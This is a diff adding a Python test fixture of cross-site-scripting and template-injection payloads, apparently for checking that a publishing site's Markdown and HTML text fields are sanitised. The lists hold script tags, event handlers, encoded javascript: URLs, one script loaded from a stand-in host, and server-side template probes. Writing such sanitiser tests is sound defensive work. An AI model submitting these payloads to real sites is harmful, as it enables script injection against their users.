@@ -1,0 +1,81 @@
+"""Cross-site-scripting payloads a policy owner could write into a data text field.
+
+Each is Markdown (or HTML) text; none may produce script, an event handler, a
+script-capable URL or an unexpected element on a published page.
+"""
+
+from __future__ import annotations
+
+XSS_PAYLOADS: list[str] = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<scr<script>ipt>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<body onload=alert(1)>",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<iframe src=\"javascript:alert(1)\"></iframe>",
+    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
+    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
+    "<embed src=\"javascript:alert(1)\">",
+    "<a href=\"javascript:alert(1)\">click</a>",
+    "<a href=\" javascript:alert(1)\">leading space</a>",
+    "<a href=\"jav&#x09;ascript:alert(1)\">tab entity</a>",
+    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
+    "<a href=\"JaVaScRiPt:alert(1)\">mixed case</a>",
+    "<a href=\"vbscript:msgbox(1)\">vb</a>",
+    "<a href=\"data:text/html,<script>alert(1)</script>\">data</a>",
+    "<a href=\"https://example.com\" onclick=\"alert(1)\">handler</a>",
+    "<a href=\"https://example.com\" style=\"background:url(javascript:alert(1))\">s</a>",
+    "<div style=\"width: expression(alert(1))\">old IE</div>",
+    "<style>@import 'javascript:alert(1)';</style>",
+    "<link rel=stylesheet href=javascript:alert(1)>",
+    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
+    "<form action=\"javascript:alert(1)\"><button>go</button></form>",
+    "<input autofocus onfocus=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<base href=\"javascript:/\">",
+    "[click](javascript:alert(1))",
+    "[click](JAVASCRIPT:alert(1))",
+    "[click](  javascript:alert(1)  )",
+    "[click](javascript&#58;alert(1))",
+    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[click](vbscript:msgbox(1))",
+    "[click][ref]\n\n[ref]: javascript:alert(1)",
+    "![x](javascript:alert(1))",
+    "![x](https://example.com/x.png \"title\" onerror=\"alert(1)\")",
+    "<javascript:alert(1)>",
+    "\\[click\\](javascript:alert(1))",
+    "&#91;click](javascript:alert(1))",
+    "\\<img src=x onerror=alert(1)\\>",
+    "`[click](javascript:alert(1))`",
+    "[x](https://example.com){: onclick=\"alert(1)\" }",
+    "Some text\n{: onclick=\"alert(1)\" }",
+    "Text {: #id .cls onmouseover=alert(1) }",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;alert(1)&#60;/script&#62;",
+    "<!-- <script>alert(1)</script> -->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "`<script>alert(1)</script>`",
+    "```\n<script>alert(1)</script>\n```",
+    "<div markdown=\"1\"><script>alert(1)</script></div>",
+    "<p title=\"</p><script>alert(1)</script>\">x</p>",
+    "\"><script>alert(1)</script>",
+    "'><img src=x onerror=alert(1)>",
+    "| a | b |\n|---|---|\n| <script>alert(1)</script> | x |",
+    "<a href=\"https://example.com\" target=\"_blank\" rel=\"opener\">opener</a>",
+    "<abbr title=\"x\" onmouseover=\"alert(1)\">abbr</abbr>",
+    "[[period:x]] {{ 7*7 }} {% for x in y %}{% endfor %}",
+    "{{ config.__class__.__init__.__globals__ }} #{7*7}",
+]
+
+# Template-engine payloads: published exactly as the text written (none has a meaning in
+# Markdown, so every text field shows it verbatim).
+TEMPLATE_PAYLOADS: list[str] = [
+    "{{ 7*7 }}",
+    "{{ config.items() }}",
+    "{% raw %}{% for x in range(9) %}{% endraw %}",
+    "{% include 'base.html' %}",
+    "${7*7}",
+]
